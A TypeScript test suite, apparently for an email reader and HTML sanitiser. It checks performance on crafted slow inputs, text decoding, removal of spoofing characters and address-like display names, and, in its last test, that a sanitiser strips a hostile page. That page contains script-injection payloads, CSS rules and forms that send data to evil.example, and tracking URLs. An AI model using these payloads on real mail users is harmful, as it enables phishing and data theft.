import assert from 'node:assert/strict'
import { test } from 'node:test'
import { cpuMsOf } from '../../../../test/cpu.ts'
import { mask } from '../../../base/masking.ts'
import { readMail } from './read-mail.ts'
import { safeHtml } from './safe-html.ts'

const read = (bytes: Buffer | string) =>
  readMail(Buffer.from(bytes as string), { trustedServers: ['mx'], isOurs: () => false })
const letter = (rest: string) => `From: Eva <eva@example.org>\r\nSubject: Kettle\r\n${rest}`
const ofType = (type: string, body: string) => letter(`Content-Type: ${type}\r\n\r\n${body}`)

/** Each took from ten seconds to days of processor time before it was looked at sign by sign, while everybody waited. */
const SIGNS = 200_000
const MOST_MS = 3000
const slow: Readonly<Record<string, string>> = {
  'encoded words without an end': letter(`Subject: ${'=?a?q?x'.repeat(SIGNS / 7)}\r\n\r\nhi`),
  'an id that never ends': letter(`Message-ID: <a${' '.repeat(SIGNS)}\r\n\r\nhi`),
  'an id with a hole in it': letter(`References: <a${' '.repeat(SIGNS)}b\r\n\r\nhi`),
  'a report of empty lines': ofType(
    'multipart/report; boundary=b',
    `--b\r\n\r\n${'\n'.repeat(SIGNS)}x\r\n--b\r\n\r\n${'> \n'.repeat(SIGNS / 3)}x\r\n--b--`,
  ),
  'a page of signs that begin no tag': ofType('text/html', '<'.repeat(SIGNS)),
  'a row of cells': ofType('text/html', `<table><tr>${'<td>a&amp;'.repeat(SIGNS / 5)}`),
}
for (const [what, message] of Object.entries(slow)) {
  test(`${what}: read in the time its length takes`, () => {
    assert.ok(cpuMsOf(() => read(message)) < MOST_MS)
  })
}

test('white space behind a word that announces a secret is looked through once', () => {
  for (const word of ['password', 'pin', 'otp']) {
    const text = `${word}${' '.repeat(SIGNS)}x`
    assert.ok(cpuMsOf(() => assert.equal(mask(text).text, text)) < MOST_MS, word)
    assert.match(mask(`my ${word} is   :  483911`).text, /•{6}$/)
  }
})

test('of a message that is as large as one may be, no more is read than what is kept of it', () => {
  const most = 58_000_000
  const large = [
    ofType('text/plain; format=flowed', 'a \n'.repeat(most / 3)),
    ofType('text/html', '<'.repeat(most)),
    letter(`${`To: ${'a@b.example, '.repeat(7000)}\r\n`.repeat(600)}\r\nx`),
  ]
  for (const [at, message] of large.entries()) {
    const bytes = Buffer.from(message)
    assert.ok(cpuMsOf(() => read(bytes)) < MOST_MS, String(at))
  }
  // a picture written into the page stands before its words, and is longer than a page that is read
  const picture = `<img src="data:image/png;base64,${'A'.repeat(3_000_000)}"><p>It leaks.</p>`
  assert.equal(read(ofType('text/html', picture)).text, 'It leaks.')
})

test('a head of a hundred thousand fields is passed over, and the body found', () => {
  const mail = read(letter(`${'X-Filler: 1234567890\r\n'.repeat(100_000)}Subject: Late\r\n\r\nIt leaks.`))
  assert.deepEqual([mail.subject, mail.text], ['Kettle', 'It leaks.'])
})

test('what is cut, or comes in halves, is text all through: half a sign cannot be stored', () => {
  const emoji = '\u{1F600}'
  const word = `=?utf-8?B?${Buffer.from(`${'a'.repeat(199)}${emoji}`).toString('base64')}?=`
  const subject = `=?utf-8?B?${Buffer.from(`${'a'.repeat(499)}${emoji}`).toString('base64')}?=`
  // UTF-7 (RFC 2152) of one half of a pair
  const half = '+2D0-'
  const calendar = `BEGIN:VEVENT\r\nUID:1\r\nSUMMARY:${'a'.repeat(499)}${emoji}\r\nORGANIZER;CN="${'a'.repeat(199)}${emoji}":mailto:o@example.org\r\nEND:VEVENT`
  const mails = [
    read(
      `From: ${word} <eva@example.org>\r\nSubject: ${subject}\r\n\r\n${'a'.repeat(59_999)}${emoji} and more to be cut off`,
    ),
    read(ofType('text/plain; charset=utf-7', `Look: ${half} here`)),
    read(`From: =?utf-7?Q?${half}?= <eva@example.org>\r\nSubject: =?utf-7?Q?${half}?=\r\n\r\nhi`),
    read(ofType('text/calendar; charset=utf-8', calendar)),
  ]
  for (const { html: _, files: _files, ...mail } of mails) {
    const strings: string[] = []
    JSON.stringify(mail, (_key, value: unknown) => {
      if (typeof value === 'string') strings.push(value)
      return value
    })
    assert.deepEqual(
      strings.filter((one) => !one.isWellFormed()),
      [],
    )
  }
  assert.equal(mails[0]?.subject, 'a'.repeat(499))
})

test('no sign turns a name, a subject, an address or an appointment around, or hides in it', () => {
  const turned = (text: string) => `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`
  const mail = read(
    [
      `From: ${turned('Eva \u202Eelpmaxe@knab')} <eva\u200B@exa\u00ADmple.org>`,
      `Subject: ${turned('Invoice \u2066\u202Efdp.exe')}`,
      'Content-Type: text/calendar; charset=utf-8',
      '',
      'BEGIN:VEVENT\r\nUID:1\r\nORGANIZER;CN=\u202EavE:mailto:o@example.org\r\nEND:VEVENT',
    ].join('\r\n'),
  )
  assert.deepEqual(mail.from, { name: 'Eva elpmaxe@knab', address: 'eva@example.org' })
  assert.equal(mail.subject, 'Invoice fdp.exe')
  assert.equal(mail.calendar?.organizer?.name, 'avE')
  // a family of one, and Persian, are joined by signs that stay
  const joined = '\u{1F469}\u200D\u{1F4BB} می\u200Cروم'
  assert.equal(read(`From: ${turned(joined)} <a@example.org>\r\n\r\nhi`).from?.name, joined)
})

test('a name that is an address is shown only where it is one’s own', () => {
  const from = (line: string) => read(`From: ${line}\r\n\r\nhi`).from
  assert.deepEqual(from('"service@bank.example" <grab@evil.example>'), { name: '', address: 'grab@evil.example' })
  assert.equal(from('"Bank (service@bank.example)" <grab@evil.example>')?.name, '')
  assert.equal(from('"Eva@Example.org" <eva@example.org>')?.name, 'Eva@Example.org')
  assert.equal(from('Eva @ home <eva@example.org>')?.name, 'Eva @ home')
})

test('what another program packed is told, with what by', () => {
  const part = (type: string) => `--b\r\nContent-Type: ${type}\r\n\r\nAAAA\r\n`
  const multi = (type: string, ...parts: string[]) => ofType(`${type}; boundary=b`, `${parts.map(part).join('')}--b--`)
  const by = (message: string) => read(message).packed
  assert.equal(by(ofType('application/pkcs7-mime; smime-type=enveloped-data; name=smime.p7m', 'AAAA')), 'smime')
  assert.equal(
    by(multi('multipart/encrypted; protocol="application/pgp-encrypted"', 'application/pgp-encrypted')),
    'pgp',
  )
  assert.equal(by(letter('\r\n-----BEGIN PGP MESSAGE-----\r\n\r\nhQEM\r\n')), 'pgp')
  assert.equal(by(multi('multipart/mixed', 'text/plain', 'application/ms-tnef; name=winmail.dat')), 'tnef')
  assert.equal(by(multi('multipart/mixed', 'text/plain', 'application/octet-stream; name="winmail.dat"')), 'tnef')
  // signed beside its text: it is read as it is
  assert.equal(
    by(
      multi(
        'multipart/signed; protocol="application/pkcs7-signature"',
        'text/plain',
        'application/pkcs7-signature; name=smime.p7s',
      ),
    ),
    null,
  )
  assert.equal(by(letter('\r\nHow do I send -----BEGIN PGP MESSAGE----- to you?')), null)
})

test('a link tells where it leads, whatever its words and its own title say', () => {
  const page = '<a href="https://evil.example/login" title="https://bank.example">https://bank.example/login</a>'
  const { html } = safeHtml(page, { pictureOf: () => null, withRemote: false })
  assert.match(html, /title="https:\/\/evil\.example\/login"/)
})

test('of a page that spies, phones home or asks for a password nothing is left', () => {
  const page = `<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/r">
    <link rel="stylesheet" href="https://evil.example/c.css"><link rel="prefetch" href="https://evil.example/p">
    <style>@import url(https://evil.example/i.css); input[value^=a]{background:url(https://evil.example/a)}</style>
    <div style="background:url(https://evil.example/b);background-image:image-set('https://evil.example/s' 1x);list-style:url(https://evil.example/l)">Hi</div>
    <div style="position:fixed;inset:0;z-index:9">over all</div><p style="width:expression(alert(1));-moz-binding:url(https://evil.example/x)">x</p>
    <svg onload="alert(1)"><a xlink:href="javascript:alert(1)"><image href="https://evil.example/v"/></a></svg>
    <math><mtext><img src=x onerror=alert(1)></mtext></math><video poster="https://evil.example/po" src="https://evil.example/vi"></video>
    <form action="https://evil.example/f"><input name="password" type="password"><button formaction="https://evil.example/g">ok</button></form>
    <table background="https://evil.example/t"><tr><td background="https://evil.example/u">cell</td></tr></table>
    <a href="java\tscript:alert(1)">j</a><a href="data:text/html,x">d</a><a href=" //evil.example">p</a><iframe srcdoc="<script>1</script>"></iframe>
    <img src="data:image/svg+xml;base64,PHN2Zz4=" srcset="https://evil.example/ss 2x"><img src="HTTPS://evil.example/z"><object data="https://evil.example/o"></object>`
  const { html, remotePictures } = safeHtml(page, { pictureOf: () => null, withRemote: false })
  assert.doesNotMatch(
    html,
    /evil\.example|javascript|@import|url\(|position|<(?:base|meta|link|style|svg|math|form|input|button|iframe|video|object)/i,
  )
  assert.match(html, /Hi<\/div>/)
  assert.equal(remotePictures, 1)
})
